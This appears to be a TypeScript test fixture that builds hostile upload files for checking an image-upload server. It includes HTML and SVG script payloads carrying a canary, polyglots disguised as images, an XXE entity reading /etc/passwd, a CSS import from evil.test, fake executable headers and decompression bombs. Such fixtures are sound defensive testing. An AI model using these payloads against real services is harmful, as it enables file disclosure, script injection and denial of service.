import { deflateSync, gzipSync } from 'node:zlib';
import sharp from 'sharp';
import { newPicture } from '#server/testing/pictures.ts';
import { bytes, chunk, gifOf, pngOf, zipOf } from './file-formats.ts';

/** The text that none of these files may bring to a browser. */
export const canary = 'canary-4711';
const script = `<script>alert('${canary}')</script>`;
const html = `<!doctype html><html><body>${script}</body></html>`;
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert('${canary}')">${script}</svg>`;

export interface HostileFile {
  readonly name: string;
  content(): Promise<Buffer> | Buffer;
  /** Its outcome as proof: drawn anew, handed out as a download only, or refused. */
  readonly becomes: 'picture' | 'download' | 'refused';
}

type Content = ReturnType<HostileFile['content']>;
const file =
  (becomes: HostileFile['becomes']) =>
  (name: string, content: () => Content): HostileFile => ({ name, content, becomes });
const picture = file('picture');
const download = file('download');
const refused = file('refused');

const behind = async (format: 'png' | 'jpeg' | 'gif' | 'webp', ...parts: (string | Buffer)[]) =>
  bytes(await newPicture(format), ...parts);
const half = async (format: 'png' | 'jpeg' | 'gif' | 'webp') => {
  const whole = await newPicture(format, { width: 300, height: 300 });
  return whole.subarray(0, Math.floor(whole.length / 2));
};

const located = async (format: 'jpeg' | 'avif' | 'tiff') =>
  sharp(await newPicture('jpeg'))
    .withExif({ IFD0: { ImageDescription: script }, IFD3: { GPSLatitude: '51/1 30/1 0/1' } })
    .toFormat(format)
    .toBuffer();
const zeros = (megabytes: number) => Buffer.alloc(megabytes * 1024 * 1024);
const gifScript = `GIF89a/*${'.'.repeat(20)}*/=0;alert('${canary}')`;
const textChunk = chunk('tEXt', bytes(`Comment\0${script}`));
const dot = deflateSync(Buffer.alloc(2));

/** Files that pretend, that carry something along, or that a browser would run. */
export const disguises: readonly HostileFile[] = [
  download('page.html', () => bytes(html)),
  download('page.png', () => bytes(html)),
  download('page.jpg', () => bytes('\ufeff', html)),
  download('utf16.gif', () => Buffer.from(`\ufeff${html}`, 'utf16le')),
  download('page.xhtml', () =>
    bytes(`<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">${script}</html>`),
  ),
  download('page.mhtml', () =>
    bytes(`MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n${html}`),
  ),
  download('logo.svg', () => bytes(svg)),
  download('logo.png', () => bytes('<?xml version="1.0"?>', svg)),
  download('entities.svg', () =>
    bytes(`<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg}`),
  ),
  download('logo.svgz', () => gzipSync(svg)),
  download('app.js', () => bytes(`alert('${canary}')`)),
  download('style.css', () => bytes(`@import '//evil.test/${canary}'`)),
  download('document.pdf', () => bytes(`%PDF-1.7\n1 0 obj<</S/JavaScript/JS(${canary})>>endobj`)),
  download('archive.png', () => zipOf('index.html', bytes(html))),
  download('office.docx', () => zipOf('word/document.xml', bytes(html))),
  refused('app.jar', () => zipOf('META-INF/MANIFEST.MF', bytes(html))),
  refused('program.jpg', () => bytes('MZ\x90\0', Buffer.alloc(60), 'PE\0\0', canary)),
  refused('program.gif', () => bytes('\x7fELF', Buffer.alloc(60), canary)),
  download('shell.webp', () => bytes('RIFF\0\0\0\0WAVE', html)),
  picture('picture.tiff', async () =>
    sharp(await newPicture('png'))
      .tiff()
      .toBuffer(),
  ),
  refused('picture.ico', () => bytes([0, 0, 1, 0, 1, 0], html)),
  refused('picture.bmp', () => bytes('BM', Buffer.alloc(52), html)),
  refused('script.gif', () => bytes(gifScript)),
  download('header.png', () => bytes([0x89, 0x50, 0x4e, 0x47, 13, 10, 26, 10], html)),
  refused('header.jpg', () => bytes([0xff, 0xd8, 0xff, 0xe0], html)),
  refused('header.webp', () => bytes('RIFF\0\0\0\0WEBPVP8 ', html)),
  picture('page-behind.png', () => behind('png', html)),
  picture('archive-behind.jpg', () => behind('jpeg', zipOf('index.html', bytes(html)))),
  picture('page-behind.gif', () => behind('gif', html)),
  picture('svg-behind.webp', () => behind('webp', svg)),
  picture('comment.png', () => pngOf(1, 1, dot, [textChunk])),
  picture('located.jpg', () => located('jpeg')),
  picture('located.avif', () => located('avif')),
  picture('located.tiff', () => located('tiff')),
  refused('located.heic', () => bytes([0, 0, 0, 24], 'ftypheic\0\0\0\0mif1heic', canary)),
  refused('located.dng', () => bytes('II*\0\x08\0\0\0', canary)),
];

/** Files that end too early. */
export const stumps: readonly HostileFile[] = [
  refused('half.png', () => half('png')),
  refused('half.jpg', () => half('jpeg')),
  refused('half.gif', () => half('gif')),
  refused('half.webp', () => half('webp')),
];

/** Files that are small to send and large to read; one that takes a busy machine too long is refused. */
export const bombs: readonly HostileFile[] = [
  refused('16k-header.png', () => pngOf(16_384, 16_384, dot)),
  refused('16k.png', () => pngOf(16_384, 16_384, deflateSync(Buffer.alloc(2049 * 16_384)))),
  refused('large-frames.gif', () => gifOf(1000, 5000)),
  refused('many-frames.gif', () => gifOf(1, 300_000)),
  picture('25-megapixels.gif', () => gifOf(1000, 25)),
  refused('26-megapixels.gif', () => gifOf(1000, 26)),
  picture('25-megapixels.png', () => pngOf(5000, 5000, deflateSync(Buffer.alloc(626 * 5000)))),
  picture('25-megapixels.webp', () => flatWebp(5000)),
  refused('26-megapixels.webp', () => flatWebp(5100)),
  picture('text.png', () =>
    pngOf(1, 1, dot, [chunk('zTXt', bytes('a\0\0', deflateSync(zeros(200))))]),
  ),
  picture('profile.png', () =>
    pngOf(1, 1, dot, [chunk('iCCP', bytes('a\0\0', deflateSync(zeros(200))))]),
  ),
  download('zeros.zip', () => zipOf('[Content_Types].xml', zeros(200))),
  download('zeros.gz', () => gzipSync(zeros(200))),
  download('endless.wmv', () =>
    bytes([0x30, 0x26, 0xb2, 0x75, 0x8e, 0x66, 0xcf, 0x11, 0xa6, 0xd9], Buffer.alloc(4000)),
  ),
];

const flatWebp = (side: number) =>
  sharp({ create: { width: side, height: side, channels: 3, background: '#123' } })
    .webp({ lossless: true, effort: 0 })
    .toBuffer();
